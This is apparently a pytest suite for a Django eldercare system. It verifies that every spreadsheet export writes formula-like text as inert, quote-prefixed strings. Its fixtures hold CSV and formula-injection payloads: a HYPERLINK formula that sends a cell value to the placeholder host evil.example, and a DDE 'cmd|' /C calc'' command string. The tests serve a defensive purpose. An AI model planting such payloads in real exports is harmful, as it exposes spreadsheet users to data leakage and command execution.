"""Every spreadsheet the system writes holds text as text: a name, an address or a region
that starts like a formula (= + - @, a tab, a carriage return) is shown exactly as typed, never
run. The test drives every export with such records, once per leading character, and opens each
file twice: with openpyxl (every text cell a string, quote-prefixed, its text intact) and as the
raw sheet XML (no formula element at all)."""

import datetime
import io
import pathlib
import re
import zipfile

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from coverage.compute import compute
from seniors.models import Senior
from tests import factories as f

pytestmark = pytest.mark.django_db

DAY = datetime.date(2026, 11, 29)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?id="&C4,"点我")'
LEADING = ["=", "+", "-", "@", "\t", "\r"]

# Every export of the system: what a person downloads, and from which page.
EXPORTS = {
    "ledger": "/seniors/export.xlsx",
    "import template": "/seniors/import/template.xlsx",
    "coverage overview": "/coverage/500156000000/export.xlsx",
    "gap list: villages": "/coverage/500156000000/gaps/?export=villages",
    "gap list: facilities": "/coverage/500156000000/gaps/?export=facilities",
    "gap list: seniors": "/coverage/500156000000/gaps/?export=seniors",
}


def shown(text: str) -> str:
    """What a reader of the file sees: XML reads a carriage return as a line break."""
    return text.replace("\r", "\n")


@pytest.fixture
def hostile(request, regions, today):
    """The cast's regions renamed to start with the character, a facility and two seniors whose
    every text field starts with it; returns the texts every export must hold."""
    lead = request.param
    for region in [*(v for k, v in regions.items() if k != "groups"), *regions["groups"]]:
        region.name = lead + region.name
        region.short_name = lead + region.short_name
        region.save()
    senior = f.SeniorFactory(
        village=regions["banqiao"],
        name=lead + "王秀英",
        born=datetime.date(1940, 1, 1),  # 86 and living alone: on the pairing gap list
        living_situation="alone",
        villager_group=regions["groups"][0],
        address=lead + "板桥村一组 12 号",
        family_caregiver=lead + "王大姐",
        wristband_device=lead + "SH-001",
        notes=lead + "cmd|' /C calc'!A0",
    )
    # a phone stored before phones were checked (no save checks it now): still text
    Senior.objects.filter(pk=senior.pk).update(phone=lead + "138 0000 0000")
    f.SeniorFactory(
        village=regions["banqiao"],
        name=FORMULA_NAME,
        born=datetime.date(1941, 2, 2),
        living_situation="alone",
        notes=lead + "SUM(1+1)",
    )
    centre = f.FacilityFactory(kind="care_centre", region=regions["baima"], name=lead + "白马中心")
    f.beds(centre, 5)  # no nursing-type bed: below the care centres' 80 % share
    compute(DAY)
    return lead


def cells_of(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def sheet_xml(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        ]


@pytest.mark.parametrize("hostile", LEADING, indirect=True, ids=repr)
def test_every_export_writes_text_starting_like_a_formula_as_text(client, bureau, hostile):
    lead = hostile
    client.force_login(bureau)
    # What each export must show, worked out from the records above. 白马镇 is in every file
    # but the gap lists of villages and seniors, which name 板桥村 instead.
    expected = {
        "ledger": [
            lead + "王秀英",
            FORMULA_NAME,
            lead + "138 0000 0000",
            lead + "板桥村一组 12 号",
            lead + "王大姐",
            lead + "SH-001",
            lead + "cmd|' /C calc'!A0",
            lead + "SUM(1+1)",
            lead + "白马镇",
            lead + "板桥村",
            lead + "1组",
        ],
        "import template": [lead + "白马镇", lead + "板桥村", lead + "板桥村村民委员会"],
        "coverage overview": [lead + "白马镇", lead + "后坪苗族土家族乡"],
        "gap list: villages": [lead + "白马镇", lead + "板桥村", lead + "文凤村"],
        "gap list: facilities": [lead + "白马中心"],
        "gap list: seniors": [lead + "王秀英", FORMULA_NAME, lead + "板桥村"],
    }
    for export, url in EXPORTS.items():
        response = client.get(url)
        assert response.status_code == 200, export
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), export

        for xml in sheet_xml(response.content):
            assert "<f>" not in xml and "<f " not in xml, f"{export}: a formula in the sheet"
        texts = {}
        for cell in cells_of(response.content):
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (export, cell.coordinate, cell.value)
                texts[cell.value] = cell
        for text in expected[export]:
            assert shown(text) in texts, (export, text)
            cell = texts[shown(text)]
            assert cell.quotePrefix, (export, text)  # editing it in Excel keeps it text


def test_a_text_that_reads_like_an_error_code_stays_text(client, staff_baima, regions, today):
    f.SeniorFactory(village=regions["banqiao"], name="#N/A", address="#DIV/0!")
    client.force_login(staff_baima)
    content = client.get(EXPORTS["ledger"]).content
    texts = {c.value: c for c in cells_of(content) if isinstance(c.value, str)}
    assert texts["#N/A"].data_type == "s"
    assert texts["#DIV/0!"].data_type == "s"


def test_control_characters_no_spreadsheet_can_hold_are_dropped_not_a_500(
    client, bureau, regions, today
):
    f.SeniorFactory(
        village=regions["banqiao"],
        name="王\x01秀英",  # a control character (PostgreSQL refuses NUL itself)
        born=datetime.date(1940, 1, 1),
        living_situation="alone",
        notes="第一行\r\n第二行\x0b",
    )
    centre = f.FacilityFactory(kind="care_centre", region=regions["baima"], name="白马\x1f中心")
    f.beds(centre, 5)
    compute(DAY)
    client.force_login(bureau)
    for export, url in EXPORTS.items():
        response = client.get(url)
        assert response.status_code == 200, export
        texts = {c.value for c in cells_of(response.content) if isinstance(c.value, str)}
        if export in ("ledger", "gap list: seniors"):
            assert "王秀英" in texts, export
        if export == "ledger":
            assert "第一行\n第二行" in texts
        if export == "gap list: facilities":
            assert "白马中心" in texts


def test_every_xlsx_route_is_walked_above():
    """A new export route fails here until it is added to ``EXPORTS``."""

    def routes(resolver, prefix=""):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                yield from routes(pattern, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern):
                yield prefix + str(pattern.pattern)

    xlsx_routes = {r for r in routes(get_resolver()) if "xlsx" in r}
    walked = {url.split("?")[0] for url in EXPORTS.values()}
    for route in xlsx_routes:
        pattern = re.sub(r"<[^>]+>", "[^/]+", route.lstrip("^").rstrip("$"))
        assert any(re.fullmatch("/" + pattern, url) for url in walked), route


def test_workbooks_are_made_only_by_the_one_writer():
    """Every workbook comes from ``eldercare.xlsx``: an ``openpyxl.Workbook`` made elsewhere
    would write text the old way."""
    root = pathlib.Path(settings.BASE_DIR)
    skip = {".venv", "node_modules", "tests", "var", "loadtest"}
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in skip or relative.as_posix() == "eldercare/xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(
            r"openpyxl import [^\n]*\bWorkbook\b|openpyxl\.Workbook|WriteOnlyCell", source
        ):
            offenders.append(relative.as_posix())
    assert offenders == []
